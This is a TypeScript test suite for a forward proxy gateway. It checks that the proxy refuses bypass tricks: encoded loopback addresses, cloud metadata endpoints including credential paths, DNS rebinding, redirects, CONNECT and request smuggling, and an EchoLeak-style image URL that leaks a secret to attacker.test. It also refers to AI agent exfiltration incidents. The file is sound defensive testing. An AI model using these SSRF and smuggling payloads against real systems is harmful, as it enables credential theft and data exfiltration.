/** Ways round the forward proxy: other places, other names, other addresses, other protocols than those that were permitted. */
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { connect as connectTcp, type Socket } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  ALLOW_PROXY,
  connectHead,
  connectRaw,
  type ProxyGateway,
  type RawTunnel,
  secureTunnel,
  startProxyGateway,
} from '../support/forward-proxy.ts';
import type { AuditRecord } from '../support/gateway.ts';
import { curl } from '../support/http-clients.ts';

/** What the service behind the proxy was asked. */
const asked: string[] = [];
/** What the resolver says next; the last one stays. */
let answers: (readonly string[])[] = [];
const lookups: string[] = [];
let gateway: ProxyGateway;
let place: string;

const service: RequestListener = (request, response) => {
  asked.push(`${request.method} ${request.headers.host} ${request.url}`);
  const to = new URL(request.url ?? '/', 'https://x').searchParams.get('to');
  if (to !== null) response.writeHead(302, { location: to });
  response.end('served');
};

beforeAll(async () => {
  gateway = await startProxyGateway({
    policy: ALLOW_PROXY,
    service,
    listener: { headTimeoutMs: 2_500 },
    lookup: async (host) => {
      lookups.push(host);
      return (answers.length > 1 ? answers.shift() : answers[0]) ?? [];
    },
    resources: (port, ca) => [
      {
        name: 'based',
        protocol: 'http',
        url: `https://localhost:${port}/api`,
        tls: { ca },
        credential: { none: true },
      },
      // A range that holds this machine, and the gateway on it.
      {
        name: 'lan',
        protocol: 'http',
        destinations: [`*.lan.test:${port}`],
        tls: { ca },
        allowAddresses: ['127.0.0.0/8', '10.0.0.0/8'],
        credential: { none: true },
      },
      // No address beside those of the internet.
      {
        name: 'wide',
        protocol: 'http',
        destinations: ['*.wide.test', '127.0.0.1', '[::1]', '*.wide.test:80'],
        credential: { none: true },
      },
    ],
  });
  place = `api.example.test:${gateway.webPort}`;
});
afterAll(() => gateway?.[Symbol.asyncDispose]());
beforeEach(() => {
  asked.length = 0;
  lookups.length = 0;
  answers = [['127.0.0.1']];
});
const opened: Socket[] = [];
afterEach(() => {
  for (const socket of opened.splice(0)) socket.destroy();
});

async function tunnel(head: string): Promise<RawTunnel> {
  const raw = await connectRaw(gateway, head);
  opened.push(raw.socket);
  return raw;
}

/** Sends bytes on an open connection and reads until it ends, or `enough` holds. */
async function say(
  socket: Socket,
  bytes: string,
  enough = /\r\n\r\n[^]*served|"code"[^]*}\n/,
): Promise<string> {
  let text = '';
  const done = new Promise<string>((resolve) => {
    socket.on('data', (chunk: Buffer) => {
      text += chunk.toString('latin1');
      if (enough.test(text)) resolve(text);
    });
    socket.on('close', () => resolve(text));
    socket.on('error', () => resolve(text));
    if (socket.closed) resolve(text);
  });
  if (!socket.closed) socket.write(Buffer.from(bytes, 'latin1'));
  socket.resume();
  return done;
}

const ca = (): { readonly ca: string } => ({ ca: readFileSync(gateway.caFile, 'utf8') });

describe('P3: a place is what it was permitted as', () => {
  it.each<readonly [string, (port: number) => string]>([
    ['its address in place of its name', (port) => `127.0.0.1:${port}`],
    ['in decimal', (port) => `2130706433:${port}`],
    ['in hexadecimal', (port) => `0x7f000001:${port}`],
    ['in octal', (port) => `0177.0.0.1:${port}`],
    ['cut short', (port) => `127.1:${port}`],
    ['with a zero in front', (port) => `127.0.0.01:${port}`],
    ['as IPv6', (port) => `[::1]:${port}`],
    ['as IPv4 inside of IPv6', (port) => `[::ffff:127.0.0.1]:${port}`],
    ['as IPv4 inside of IPv6, in hexadecimal', (port) => `[::ffff:7f00:1]:${port}`],
    ['unspecified', (port) => `0.0.0.0:${port}`],
    ['another port', (port) => `api.example.test:${port + 1}`],
    ['the usual port', () => 'api.example.test:443'],
    ['the parent of the wildcard', (port) => `example.test:${port}`],
    ['a name that only ends like it', (port) => `evilexample.test:${port}`],
    ['a name that only begins like it', (port) => `api.example.test.evil.test:${port}`],
    ['the wildcard itself', (port) => `*.example.test:${port}`],
    ['a name beyond ASCII', (port) => `\u00e1pi.example.test:${port}`],
    ['a label that is none', (port) => `-.example.test:${port}`],
    ['the metadata service', () => '169.254.169.254:80'],
    ['the gateway itself', () => `127.0.0.1:${gateway.port}`],
    ['the gateway by name', () => `localhost:${gateway.port}`],
  ])('not %s', async (_what, named) => {
    const { status, socket } = await tunnel(await connectHead(gateway, named(gateway.webPort)));
    expect([400, 403]).toContain(status);
    expect(socket.destroyed || socket.readableEnded).toBe(true);
    expect(asked).toEqual([]);
  });

  it.each<readonly [string, (login: string) => string]>([
    ['user information', (login) => `CONNECT me@${place} HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`],
    [
      'another Host',
      (login) =>
        `CONNECT ${place} HTTP/1.1\r\nHost: other.example.test:${gateway.webPort}\r\n${login}\r\n\r\n`,
    ],
    [
      'a Host without the port',
      (login) => `CONNECT ${place} HTTP/1.1\r\nHost: evil.test\r\n${login}\r\n\r\n`,
    ],
    [
      'two Hosts',
      (login) => `CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\nHost: evil.test\r\n${login}\r\n\r\n`,
    ],
    [
      'a space in it',
      (login) => `CONNECT api.example.test :443 HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`,
    ],
    [
      'a bare CR in it',
      (login) => `CONNECT api.example.test\r:443 HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`,
    ],
    [
      'a NUL in it',
      (login) => `CONNECT api.example.test\0.evil:443 HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`,
    ],
    ['a line of its own', (login) => `CONNECT ${place} HTTP/1.1\nHost: ${place}\r\n${login}\r\n\r\n`],
    ['no port', (login) => `CONNECT api.example.test HTTP/1.1\r\nHost: api.example.test\r\n${login}\r\n\r\n`],
    ['a path', (login) => `CONNECT ${place}/x HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`],
    ['a URL', (login) => `CONNECT https://${place} HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`],
    [
      'a percent sign',
      (login) => `CONNECT api%2eexample.test:443 HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`,
    ],
    [
      'a body',
      (login) => `CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n${login}\r\nContent-Length: 3\r\n\r\nabc`,
    ],
    [
      'a chunked body',
      (login) =>
        `CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n${login}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ],
    ['a method in lower case', (login) => `connect ${place} HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`],
  ])('not with %s', async (_what, head) => {
    const login = `Proxy-Authorization: Bearer ${await gateway.issuer.token()}`;
    const { status } = await tunnel(head(login));
    expect(status).toBeGreaterThanOrEqual(400);
    expect(asked).toEqual([]);
  });

  it('and its name in any case, with a dot at its end, is the same place', async () => {
    const named = `API.Example.TEST.:${gateway.webPort}`;
    const { status, socket } = await tunnel(await connectHead(gateway, named));
    expect(status).toBe(200);
    const secured = await secureTunnel(socket, { ...ca(), servername: 'api.example.test' });
    expect(await say(secured, `GET /a HTTP/1.1\r\nHost: ${place}\r\n\r\n`)).toMatch(/^HTTP\/1\.1 200/);
  });
});

describe('P3: what is asked in a tunnel is for the place that it leads to', () => {
  async function inside(servername: string, request: string): Promise<string> {
    const { socket } = await tunnel(await connectHead(gateway, place));
    const secured = await secureTunnel(socket, {
      ...ca(),
      ...(servername === '' ? {} : { servername }),
      checkServerIdentity: () => undefined,
    });
    return say(secured, request);
  }
  const other = (): string => `other.example.test:${gateway.webPort}`;

  it.each<readonly [string, string, () => string]>([
    ['another Host', 'api.example.test', () => `GET /a HTTP/1.1\r\nHost: ${other()}\r\n\r\n`],
    [
      'the Host of another port',
      'api.example.test',
      () => 'GET /a HTTP/1.1\r\nHost: api.example.test\r\n\r\n',
    ],
    [
      'a URL of another host',
      'api.example.test',
      () => `GET https://${other()}/a HTTP/1.1\r\nHost: ${other()}\r\n\r\n`,
    ],
    [
      'a URL of another scheme',
      'api.example.test',
      () => `GET http://${place}/a HTTP/1.1\r\nHost: ${place}\r\n\r\n`,
    ],
    [
      'another name in the TLS handshake',
      'other.example.test',
      () => `GET /a HTTP/1.1\r\nHost: ${place}\r\n\r\n`,
    ],
    ['another name in both', 'other.example.test', () => `GET /a HTTP/1.1\r\nHost: ${other()}\r\n\r\n`],
  ])('not with %s', async (_what, servername, request) => {
    const answer = await inside(servername, request());
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(JSON.parse(answer.slice(answer.indexOf('\r\n\r\n')))).toMatchObject({
      code: 'POLICY_DENIED',
      cause: 'opaque',
    });
    expect(asked).toEqual([]);
    const intent = gateway.records().findLast(({ type }) => type === 'exchange.intent');
    expect(intent).toMatchObject({ effect: 'deny' });
  });

  it('but for a client that names nothing in the handshake', async () => {
    expect(await inside('', `GET /a HTTP/1.1\r\nHost: ${place}\r\n\r\n`)).toMatch(/^HTTP\/1\.1 200 /);
    expect(asked).toEqual([`GET ${place} /a`]);
  });

  it.each<readonly [string, () => string, RegExp]>([
    ['a tunnel in it', () => `CONNECT ${other()} HTTP/1.1\r\nHost: ${other()}\r\n\r\n`, /^HTTP\/1\.1 501 /],
    [
      'the token of the proxy, in another header',
      () => `GET /a HTTP/1.1\r\nHost: ${place}\r\nX-Token: ${token}\r\n\r\n`,
      /^HTTP\/1\.1 400 [^]*ERR_HTTP_MISPLACED_TOKEN/,
    ],
    [
      'two requests in one',
      () =>
        `GET /a HTTP/1.1\r\nHost: ${place}\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      /^HTTP\/1\.1 400 /,
    ],
  ])('not %s', async (_what, request, expected) => {
    token = await gateway.issuer.token();
    const login = `Proxy-Authorization: Bearer ${token}`;
    const { socket } = await tunnel(`CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`);
    const secured = await secureTunnel(socket, { ...ca(), servername: 'api.example.test' });
    expect(await say(secured, request())).toMatch(expected);
    expect(asked).toEqual([]);
  });
  let token = '';

  it.each([
    ['/', 403],
    ['/apix/a', 403],
    ['/API/a', 403],
    ['/%61pi/a', 403],
    ['/api/../admin', 403],
    ['/api/%2e%2e/admin', 403],
    ['/x/../api/a', 403],
    ['//api/a', 403],
    ['/api', 200],
    ['/api?x=1', 200],
    ['/api/a/../b', 200],
  ])('of a resource with a path of its own, %s: %d', async (target, status) => {
    const named = `localhost:${gateway.webPort}`;
    const { socket } = await tunnel(await connectHead(gateway, named));
    const secured = await secureTunnel(socket, { ...ca(), servername: 'localhost' });
    const answer = await say(secured, `GET ${target} HTTP/1.1\r\nHost: ${named}\r\n\r\n`);
    expect(answer).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `));
    expect(asked.every((line) => / \/api(\/|\?|$)/.test(line))).toBe(true);
  });
});

describe('P3: a name leads where it may lead', () => {
  const inTunnel = async (named: string): Promise<string> => {
    const { status, socket } = await tunnel(await connectHead(gateway, named));
    expect(status).toBe(200);
    const servername = named.replace(/:\d+$/, '');
    const secured = await secureTunnel(socket, { ...ca(), servername, checkServerIdentity: () => undefined });
    return say(secured, `GET /a HTTP/1.1\r\nHost: ${named}\r\n\r\n`);
  };

  it.each<readonly [string, readonly string[]]>([
    ['this machine', ['127.0.0.1']],
    ['this machine in IPv6', ['::1']],
    ['a private network', ['10.0.0.1']],
    ['a metadata service', ['169.254.169.254']],
    ['a metadata service of IPv6', ['fd00:ec2::254']],
    ['a metadata service among public addresses', ['168.63.129.16']],
    ['a network of a provider', ['100.64.0.1']],
    ['IPv4 inside of IPv6', ['::ffff:169.254.169.254']],
    ['IPv4 behind NAT64', ['64:ff9b::a9fe:a9fe']],
    ['a public address and a private one', ['8.8.8.8', '192.168.0.1']],
  ])('not to %s', async (_what, addresses) => {
    answers = [addresses];
    const answer = await inTunnel('a.wide.test:443');
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('ERR_HTTP_UPSTREAM_ADDRESS');
    for (const address of addresses) expect(answer).not.toContain(address);
    expect(lookups).toEqual(['a.wide.test']);
    const session = gateway.records().findLast(({ type }) => type === 'session.opened')?.['session'];
    const isRefused = (record: AuditRecord): boolean =>
      record['session'] === session &&
      (record['result'] as { readonly code?: string } | undefined)?.code === 'ERR_HTTP_UPSTREAM_ADDRESS';
    const all = await gateway.recordsUntil((records) => records.some(isRefused));
    expect(all.find(isRefused)).toMatchObject({ type: 'exchange.outcome', status: 'error' });
  });

  it.each([['127.0.0.1:443'], ['[::1]:443']])(
    'not to %s, though a resource names that address',
    async (named) => {
      const { status, socket } = await tunnel(await connectHead(gateway, named));
      expect(status).toBe(200);
      const secured = await secureTunnel(socket, { ...ca(), checkServerIdentity: () => undefined });
      expect(await say(secured, `GET /a HTTP/1.1\r\nHost: ${named}\r\n\r\n`)).toContain(
        'ERR_HTTP_UPSTREAM_ADDRESS',
      );
      expect(lookups).toEqual([]);
    },
  );

  it.each([['127.0.0.1'], ['127.0.0.2']])(
    'nor to the gateway’s own machine (%s) by a range that holds it',
    async (address) => {
      answers = [[address]];
      const answer = await inTunnel(`gateway.lan.test:${gateway.webPort}`);
      // Nobody listens at the other one, where the system keeps them apart.
      expect(answer).toMatch(/ERR_HTTP_UPSTREAM_ADDRESS|ERR_HTTP_UPSTREAM_UNREACHABLE/);
      expect(asked).toEqual([]);
    },
  );

  it('nor to what it becomes between the look and the connection: it is resolved once', async () => {
    answers = [['127.0.0.1'], ['10.0.0.1'], ['169.254.169.254']];
    expect(await inTunnel(`deep.api.example.test:${gateway.webPort}`)).toMatch(/^HTTP\/1\.1 200 /);
    expect(asked).toHaveLength(1);
    expect(lookups).toEqual(['deep.api.example.test']);
  });

  it('nor to what it is later: each connection looks anew', async () => {
    answers = [['127.0.0.1'], ['169.254.169.254']];
    const first = `other.example.test:${gateway.webPort}`;
    const { socket } = await tunnel(await connectHead(gateway, first));
    const secured = await secureTunnel(socket, { ...ca(), servername: 'other.example.test' });
    const bye = `GET /a HTTP/1.1\r\nHost: ${first}\r\nConnection: close\r\n\r\n`;
    expect(await say(secured, bye)).toMatch(/^HTTP\/1\.1 200 /);
    gateway.web.closeAllConnections();
    expect(await inTunnel(first)).toContain('ERR_HTTP_UPSTREAM_ADDRESS');
    expect(asked).toHaveLength(1);
  });

  it.each([
    ['http://169.254.169.254/latest/meta-data/'],
    ['https://169.254.169.254/'],
    ['https://nowhere.test/'],
    ['http://2852039166/'],
  ])('nor where a service sends the client: %s is asked for anew', async (to) => {
    const url = `https://${place}/?to=${encodeURIComponent(to)}`;
    const args = ['--proxy', await gateway.proxyUrl(), '--cacert', gateway.caFile, '-L', '-i', url];
    const { stdout, stderr } = await curl(args);
    // curl itself writes 2852039166 as an address.
    expect(stdout + stderr).toMatch(
      /HTTP\/(1\.1|2) 302 [^]*(HTTP\/1\.1 403|CONNECT tunnel failed, response 403)/,
    );
    expect(asked).toHaveLength(1);
    const refused = gateway.records().findLast(({ type }) => type === 'destination.refused');
    expect(refused?.['destination']).toMatch(/^(169\.254\.169\.254|nowhere\.test):(80|443)$/);
  });

  it('and a redirect to a place that may be reached is followed, through the gateway', async () => {
    const to = `https://other.example.test:${gateway.webPort}/b`;
    const url = `https://${place}/?to=${encodeURIComponent(to)}`;
    const args = ['--proxy', await gateway.proxyUrl(), '--cacert', gateway.caFile, '-L', url];
    expect((await curl(args)).stdout).toContain('served');
    expect(asked).toHaveLength(2);
  });

  it('and one of a resource with a path of its own leads to the whole path', async () => {
    const base = `https://localhost:${gateway.webPort}`;
    const args = ['--proxy', await gateway.proxyUrl(), '--cacert', gateway.caFile, '-L'];
    await curl([...args, `${base}/api/a?to=${encodeURIComponent('/api/b')}`]);
    await curl([...args, `${base}/api/a?to=${encodeURIComponent(`${base}/api/c`)}`]);
    expect(asked.filter((line) => / \/api\/[bc]$/.test(line))).toHaveLength(2);
  });
});

describe('denials in tunnels', () => {
  it('P3: are all that is in them, whatever is asked, and lead nowhere', async () => {
    await using talkative = await startProxyGateway({
      service,
      listener: { denialsInTunnels: true, headTimeoutMs: 2_500 },
    });
    const ask = async (named: string, request: string, alpn?: string): Promise<string> => {
      const { status, socket } = await connectRaw(talkative, await connectHead(talkative, named));
      opened.push(socket);
      expect(status).toBe(200);
      const secured = await secureTunnel(socket, {
        ca: readFileSync(talkative.caFile, 'utf8'),
        servername: named.replace(/:\d+$/, ''),
        ...(alpn === undefined ? {} : { ALPNProtocols: [alpn] }),
      });
      return say(secured, request, /^\0never/);
    };
    const permitted = `api.example.test:${talkative.webPort}`;
    const two = `GET /a HTTP/1.1\r\nHost: ${permitted}\r\n\r\n`.repeat(2);
    const answer = await ask('nowhere.test:443', two);
    expect(answer.match(/HTTP\/1\.1 \d+/g)).toEqual(['HTTP/1.1 403']);
    expect(answer).toContain('nowhere.test:443 is refused');
    expect(
      await ask('nowhere.test:443', `CONNECT ${permitted} HTTP/1.1\r\nHost: ${permitted}\r\n\r\n`),
    ).toMatch(/^HTTP\/1\.1 403 /);
    expect(asked).toEqual([]);
    // Who does not say who he is, or names no place, gets no tunnel.
    for (const [head, expected] of [
      ['CONNECT nowhere.test:443 HTTP/1.1\r\nHost: nowhere.test:443\r\n\r\n', 407],
      [await connectHead(talkative, '0x7f.1:443'), 403],
    ] as const) {
      expect((await connectRaw(talkative, head)).status).toBe(expected);
    }
    // Plain HTTP is told so, too.
    const { socket } = await connectRaw(talkative, await connectHead(talkative, 'nowhere.test:80'));
    opened.push(socket);
    expect(await say(socket, 'GET / HTTP/1.1\r\nHost: nowhere.test\r\n\r\n', /^\0never/)).toMatch(
      /^HTTP\/1\.1 403 /,
    );
    // And one that says nothing is not waited for.
    const silent = await connectRaw(talkative, await connectHead(talkative, 'nowhere.test:443'));
    opened.push(silent.socket);
    await say(silent.socket, '', /^\0never/);
    expect(silent.socket.closed).toBe(true);
    const refused = talkative.records().filter(({ type }) => type === 'destination.refused');
    expect(refused.length).toBeGreaterThanOrEqual(5);
  });

  it('P9: are what clients show that show nothing of an answer to CONNECT', async () => {
    await using talkative = await startProxyGateway({
      listener: { denialsInTunnels: true },
      resources: () => [
        { name: 'closed', protocol: 'http', destinations: ['closed.test'], credential: { none: true } },
      ],
      policy: ALLOW_PROXY.replace('on: connect, match: {', 'on: connect, match: { resources: [web],'),
    });
    const args = ['--proxy', await talkative.proxyUrl(), '--cacert', talkative.caFile];
    const unknown = await curl([...args, 'https://nowhere.test/']);
    expect(JSON.parse(unknown.stdout)).toMatchObject({ status: 403, code: 'ERR_HTTP_DESTINATION' });
    const denied = await curl([...args, 'https://closed.test/']);
    expect(JSON.parse(denied.stdout)).toMatchObject({
      status: 403,
      code: 'POLICY_DENIED',
      detail: expect.stringContaining('connect to closed as account service'),
    });
  });
});

describe('incidents, through the wire', () => {
  const fetchOf = async (url: string): Promise<string> => {
    const { stdout, stderr } = await curl(['--proxy', await gateway.proxyUrl(), '-i', url]);
    return stdout + stderr;
  };

  it.each([
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://[::ffff:169.254.169.254]/latest/meta-data/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://100.100.100.200/latest/meta-data/',
    'http://metadata.google.internal/computeMetadata/v1/',
  ])('P3: MarkItDown, a tool that fetches what it is told to, gets nothing of %s', async (url) => {
    answers = [['169.254.169.254']];
    expect(await fetchOf(url)).toMatch(/^HTTP\/1\.1 403 [^]*ERR_HTTP_DESTINATION/);
    expect(lookups).toEqual([]);
    const refused = gateway.records().findLast(({ type }) => type === 'destination.refused');
    expect(refused).toMatchObject({
      destination: expect.stringContaining(':80'),
      principal: { subject: 'agent-1' },
    });
  });

  it('P3: EchoLeak, a picture whose address is the secret, is not fetched from anywhere but where it may be', async () => {
    const secret = Buffer.from('the secret').toString('base64url');
    expect(await fetchOf(`https://attacker.test/x.png?d=${secret}`)).toContain('response 403');
    expect(await fetchOf(`http://attacker.test/x.png?d=${secret}`)).toMatch(/^HTTP\/1\.1 403 /);
    expect(JSON.stringify(gateway.records())).not.toContain(secret);
    expect(lookups).toEqual([]);
  });
});

describe('P10: what is no tunnel, or is slow', () => {
  it('data behind a refused CONNECT is no request', async () => {
    const refused = await connectHead(gateway, 'nowhere.test:443');
    const login = `Proxy-Authorization: Bearer ${await gateway.issuer.token()}`;
    const smuggled = `GET https://${place}/smuggled HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`;
    const { status, head, body } = await tunnel(refused + smuggled);
    expect(status).toBe(403);
    expect(head.toLowerCase()).toContain('connection: close');
    expect(body).not.toContain('HTTP/1.1');
    expect(asked).toEqual([]);
  });

  it('data in front of the answer is the tunnel’s, and nothing else', async () => {
    const login = `Proxy-Authorization: Bearer ${await gateway.issuer.token()}`;
    const smuggled = `GET https://${place}/smuggled HTTP/1.1\r\nHost: ${place}\r\n${login}\r\n\r\n`;
    const { status, socket, body } = await tunnel((await connectHead(gateway, place)) + smuggled);
    expect(status).toBe(200);
    expect(body + (await say(socket, ''))).toMatch(/^HTTP\/1\.1 400 [^]*TLS is required in this tunnel/);
    expect(asked).toEqual([]);
  });

  it('a tunnel without TLS is told so', async () => {
    const { socket } = await tunnel(await connectHead(gateway, place));
    const answer = await say(socket, `GET /a HTTP/1.1\r\nHost: ${place}\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 400 [^]*TLS is required in this tunnel/);
    expect(asked).toEqual([]);
  });

  it.each([
    ['says nothing', ''],
    ['begins a handshake and stops', '\x16\x03\x01\x02\x00\x01\x00'],
    ['begins with nonsense', '\x16\x03\x01\x00\x05hello'],
  ])('a client that %s is not waited for', async (_what, bytes) => {
    const { socket } = await tunnel(await connectHead(gateway, place));
    await say(socket, bytes, /^\0never/);
    expect(socket.closed).toBe(true);
    expect(asked).toEqual([]);
  });

  it('many tunnels that stand still keep nobody from his own', async () => {
    const head = await connectHead(gateway, place);
    const idle = await Promise.all(Array.from({ length: 150 }, () => tunnel(head)));
    expect(idle.every(({ status }) => status === 200)).toBe(true);
    const args = ['--proxy', await gateway.proxyUrl(), '--cacert', gateway.caFile, `https://${place}/a`];
    expect((await curl(args)).stdout).toBe('served');
    for (const { socket } of idle) {
      if (socket.closed) continue;
      socket.resume();
      await once(socket, 'close');
    }
  });

  it('a client that leaves in the middle of a handshake leaves nothing behind', async () => {
    const { socket } = await tunnel(await connectHead(gateway, place));
    socket.write(Buffer.from('\x16\x03\x01\x02\x00\x01', 'latin1'));
    socket.destroy();
    const opened = gateway.records().findLast(({ type }) => type === 'session.opened');
    await gateway.recordsUntil((all) =>
      all.some((one) => one['type'] === 'session.closed' && one['session'] === opened?.['session']),
    );
    const probe = connectTcp(gateway.port, gateway.host);
    await once(probe, 'connect');
    probe.destroy();
  });
});
